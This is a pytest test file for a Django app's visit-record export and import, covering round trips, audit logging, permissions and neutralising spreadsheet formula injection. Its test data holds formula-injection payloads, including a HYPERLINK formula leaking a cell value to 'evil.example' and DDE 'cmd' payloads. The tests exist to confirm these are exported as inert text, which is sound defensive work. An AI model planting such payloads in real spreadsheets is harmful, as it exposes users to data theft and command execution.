"""The export, and the round trip: an export imports again adding nothing, and every
imported row comes back unchanged in the next export."""

from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from omzien.accounts.permissions import SYSTEM
from omzien.agenda.services import cancel_session
from omzien.audit.models import AuditEvent
from omzien.people.models import Person, Purpose
from omzien.visitfiles.exporting import export_visits
from omzien.visitfiles.formats import VisitFileError, open_writer
from omzien.visitfiles.importing import import_visits
from tests.factories import (
    ConsentFactory,
    PersonFactory,
    PlaceFactory,
    SessionFactory,
    VisitFactory,
)
from tests.visitfiles.conftest import TODAY
from tests.visitfiles.files import (
    WITH_CONSENT,
    counts,
    read_back,
    read_rows,
    write_csv,
    write_xlsx,
)

MAY, JUNE = datetime(2026, 5, 1, 12, tzinfo=UTC), datetime(2026, 6, 1, 12, tzinfo=UTC)
ROWS = [
    ["p2", "Henk", "", "Voorst", "Trefpunt Duistervoorde", "Handwerken", "2026-03-04", ""],
    ["p1", "Mariëtte", "de Vries", "Twello", "De Benring", "Koffieochtend", "2026-03-10", "names"],
    ["p1", "Mariëtte", "de Vries", "Twello", "De Benring", "Koffieochtend", "2026-03-03", "names"],
    ["a, b", 'Jo "Jopie"', "", "", "De Benring", "Koffieochtend", "2026-03-03", "names;followup"],
]


def imported(tmp_path, rows=ROWS, name="in.csv"):
    writer = write_xlsx if name.endswith(".xlsx") else write_csv
    result = import_visits(writer(tmp_path / name, rows), today=TODAY, acting_user=SYSTEM)
    assert result.ok, result.errors
    return result


def test_one_row_per_named_visit_sorted_with_consent(network, tmp_path):
    imported(tmp_path)
    door = PersonFactory(ref=None, first_name="Gerda", last_name="", village=None)
    ConsentFactory(person=door, purpose="names", given=True, recorded_at=MAY)
    ConsentFactory(person=door, purpose="questionnaires", given=True, recorded_at=MAY)
    ConsentFactory(person=door, purpose="questionnaires", given=False, recorded_at=JUNE)
    session = SessionFactory(activity=network["koffie"], date=date(2026, 3, 17))
    VisitFactory(session=session, person=door)
    VisitFactory(session=session, person=None)  # anonymous

    result = export_visits(tmp_path / "out.csv", acting_user=SYSTEM)

    assert (result.rows, result.anonymous) == (5, 1)
    rows = read_rows(tmp_path / "out.csv")
    assert rows[0] == WITH_CONSENT
    gerda = [f"omzien-{door.pk}", "Gerda", "", "", "De Benring", "Koffieochtend", "2026-03-17"]
    assert rows[1:] == [ROWS[3], ROWS[2], ROWS[0], ROWS[1], [*gerda, "names"]]
    # No byte order mark; every field quoted (OWASP's advice against formula injection).
    assert (tmp_path / "out.csv").read_bytes().startswith(b'"person_ref","first_name",')


def test_the_export_is_audit_logged(network, tmp_path):
    imported(tmp_path)
    export_visits(tmp_path / "out.csv", acting_user=SYSTEM)
    event = AuditEvent.objects.get(action="export")
    assert event.subject == "visit file"
    assert str(tmp_path / "out.csv") in event.detail and "4 rows" in event.detail
    assert event.user is None


@pytest.mark.parametrize("name", ["out.txt", "out.xls", "out"])
def test_other_extensions_are_refused(network, tmp_path, name):
    with pytest.raises(VisitFileError):
        export_visits(tmp_path / name, acting_user=SYSTEM)
    assert not (tmp_path / name).exists()
    assert not AuditEvent.objects.exists()


def test_a_missing_folder_is_refused(network, tmp_path):
    with pytest.raises(VisitFileError):
        export_visits(tmp_path / "nope" / "out.csv", acting_user=SYSTEM)


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_round_trip(network, tmp_path, extension):
    imported(tmp_path, name=f"in.{extension}")
    door = PersonFactory(ref=None, first_name="Gerda", last_name="", village=None)
    stormy = SessionFactory(activity=network["koffie"], date=date(2026, 3, 17))
    VisitFactory(session=stormy, person=door)
    cancel_session(
        stormy, "Storm", acting_user=SYSTEM
    )  # a visit recorded before the session was cancelled
    first = tmp_path / f"first.{extension}"
    export_visits(first, acting_user=SYSTEM)
    before = counts()

    dry = import_visits(first, today=TODAY, dry_run=True, acting_user=SYSTEM)
    again = import_visits(first, today=TODAY, acting_user=SYSTEM)

    for result in (dry, again):
        assert result.ok, result.errors
        assert (result.people, result.sessions, result.visits, result.consents) == (0, 0, 0, 0)
        assert result.people_completed == 0
    after = counts()
    assert after.pop("audit") == before.pop("audit") + 1
    assert after == before
    second = tmp_path / f"second.{extension}"
    export_visits(second, acting_user=SYSTEM)
    assert read_rows(second) == read_rows(first)
    if extension == "csv":
        assert second.read_bytes() == first.read_bytes()
    exported = {tuple(row) for row in read_rows(first)}
    assert all(tuple(row) in exported for row in ROWS)  # every imported row, unchanged


FORMULA_NAMES = [
    ("f1", '=HYPERLINK("http://evil.example/?n="&B2;"Klik hier")', "+cmd|' /C calc'!A0"),
    ("f2", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
    ("f3", "'=al met aanhalingsteken", "'t Hart"),
    ("=f4", "\uff1dSOM(A1)", ""),
]


def _people_with_formula_names(network):
    session = SessionFactory(activity=network["koffie"], date=date(2026, 3, 17))
    for ref, first, last in FORMULA_NAMES:
        person = PersonFactory(ref=ref, first_name=first, last_name=last, village=None)
        VisitFactory(session=session, person=person)


def test_formula_names_are_text_in_the_xlsx_export(network, tmp_path):
    _people_with_formula_names(network)
    export_visits(tmp_path / "out.xlsx", acting_user=SYSTEM)

    book = openpyxl.load_workbook(tmp_path / "out.xlsx")  # not data_only: formulas show
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert all(cell.data_type == "s" for cell in cells if cell.value is not None)
    names = {(row[0].value, row[1].value, row[2].value or "") for row in book.active.iter_rows()}
    # Shown as the very names, no quote in front; only a name that starts with the quote
    # that reading takes off gets one more.
    shown = [*FORMULA_NAMES[:2], ("f3", "''=al met aanhalingsteken", "'t Hart"), FORMULA_NAMES[3]]
    assert set(shown) <= names
    first_names = {row[0].value: row[1] for row in book.active.iter_rows(min_row=2)}
    assert first_names["f1"].quotePrefix and not first_names["f3"].quotePrefix


def test_formula_names_are_prefixed_in_the_csv_export(network, tmp_path):
    _people_with_formula_names(network)
    export_visits(tmp_path / "out.csv", acting_user=SYSTEM)

    rows = {row[0]: row for row in read_rows(tmp_path / "out.csv")[1:]}
    assert rows["f1"][1:3] == ["'" + FORMULA_NAMES[0][1], "'" + FORMULA_NAMES[0][2]]
    assert rows["f2"][1:3] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"]
    assert rows["f3"][1:3] == ["''=al met aanhalingsteken", "'t Hart"]
    assert rows["'=f4"][1] == "'\uff1dSOM(A1)"
    text = (tmp_path / "out.csv").read_text()
    assert ',"=' not in text and ',"+' not in text and ',"@' not in text


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_formula_names_import_again_unchanged(network, tmp_path, extension):
    _people_with_formula_names(network)
    path = tmp_path / f"out.{extension}"
    export_visits(path, acting_user=SYSTEM)
    before = counts()
    people = sorted(Person.objects.values_list("ref", "first_name", "last_name"))

    result = import_visits(path, today=TODAY, acting_user=SYSTEM)

    assert result.ok, result.errors
    assert (result.people, result.sessions, result.visits, result.consents) == (0, 0, 0, 0)
    assert result.people_completed == 0
    after = counts()
    assert after.pop("audit") == before.pop("audit") + 1
    assert after == before
    assert sorted(Person.objects.values_list("ref", "first_name", "last_name")) == people
    assert {tuple(row[:3]) for row in read_back(path)[1:]} == set(FORMULA_NAMES)


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_formula_signs_in_a_coordinators_own_file_are_plain_text(network, tmp_path, extension):
    writer = write_xlsx if extension == "xlsx" else write_csv
    rows = [["=p1", "=Jan", "+Jansen", "", "De Benring", "Koffieochtend", "2026-03-03", ""]]
    assert import_visits(
        writer(tmp_path / f"in.{extension}", rows), today=TODAY, acting_user=SYSTEM
    ).ok
    person = Person.objects.get()
    assert (person.ref, person.first_name, person.last_name) == ("=p1", "=Jan", "+Jansen")


def test_shared_names_are_written_as_slugs(network, twello, tmp_path):
    imported(tmp_path)
    PlaceFactory(name="De Benring", slug="de-benring-2", village=twello)
    export_visits(tmp_path / "out.csv", acting_user=SYSTEM)
    places = {row[4] for row in read_rows(tmp_path / "out.csv")[1:]}
    assert places == {"de-benring", "Trefpunt Duistervoorde"}
    result = import_visits(tmp_path / "out.csv", today=TODAY, acting_user=SYSTEM)
    assert result.ok and result.visits == 0


def test_an_empty_database_exports_a_header(db, tmp_path):
    result = export_visits(tmp_path / "out.xlsx", acting_user=SYSTEM)
    assert result.rows == 0
    assert read_rows(tmp_path / "out.xlsx") == [WITH_CONSENT]


# Any valid visit rows: imported, exported, imported again.
TUESDAYS = [date(2026, 1, 6) + timedelta(weeks=week) for week in range(20)]
LETTER = "A-Za-zÀ-ÖØ-öø-ÿ"
plain_name = st.from_regex(rf"[{LETTER}]([{LETTER}' ,-]{{0,10}}[{LETTER}])?", fullmatch=True)
# Names a spreadsheet would take as a formula, or that start with the quote we add.
FORMULA_STARTS = ["=", "+", "-", "@", "'", "''", "'=", "\uff1d", "=HYPERLINK(", "+cmd|' /C "]
formula_name = st.tuples(st.sampled_from(FORMULA_STARTS), plain_name).map("".join)
name_text = st.one_of(plain_name, formula_name)
person = st.fixed_dictionaries(
    {
        "first_name": name_text,
        "last_name": st.one_of(st.just(""), name_text),
        "ref_start": st.sampled_from(["r", "=r", "-r", "@r", "'=r"]),
        "village": st.sampled_from(["", "Twello", "Voorst"]),
        "consent": st.sets(st.sampled_from(Purpose.values)),
    }
)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    people=st.lists(person, min_size=1, max_size=6),
    visits=st.sets(st.tuples(st.integers(0, 5), st.integers(0, 19)), min_size=1, max_size=25),
    extension=st.sampled_from(["csv", "xlsx"]),
)
def test_any_valid_rows_round_trip(network, tmp_path_factory, people, visits, extension):
    from django.db import transaction

    folder = tmp_path_factory.mktemp("round-trip")
    rows = []
    for number, day in sorted(visits):
        if number >= len(people):
            continue
        who = people[number]
        consent = ";".join(purpose for purpose in Purpose.values if purpose in who["consent"])
        ref = f"{who['ref_start']}-{number}"
        rows.append(
            [ref, who["first_name"], who["last_name"], who["village"], "De Benring"]
            + ["Koffieochtend", TUESDAYS[day].isoformat(), consent]
        )
    if not rows:
        return
    # Written as our export writes (a name that starts with ' gets one more), so the
    # people imported have exactly these names, quotes and formula signs included.
    source = folder / f"in.{extension}"
    writer = open_writer(source, extension)
    for row in [WITH_CONSENT, *rows]:
        writer.write(row)
    writer.close()
    with transaction.atomic():
        first = import_visits(source, today=TODAY, acting_user=SYSTEM)
        assert first.ok, first.errors
        assert first.visits == len(rows)
        export_visits(folder / f"out.{extension}", acting_user=SYSTEM)
        exported = read_back(folder / f"out.{extension}")
        assert sorted(exported[1:]) == sorted(rows)
        again = import_visits(folder / f"out.{extension}", today=TODAY, acting_user=SYSTEM)
        assert again.ok and (again.people, again.visits, again.consents) == (0, 0, 0)
        transaction.set_rollback(True)


def test_only_the_region_may_export_every_visit(network, tmp_path, coordinator_trefpunt):
    from omzien.accounts.permissions import NotFound

    with pytest.raises(NotFound):
        export_visits(tmp_path / "out.csv", acting_user=coordinator_trefpunt)
    assert not (tmp_path / "out.csv").exists()
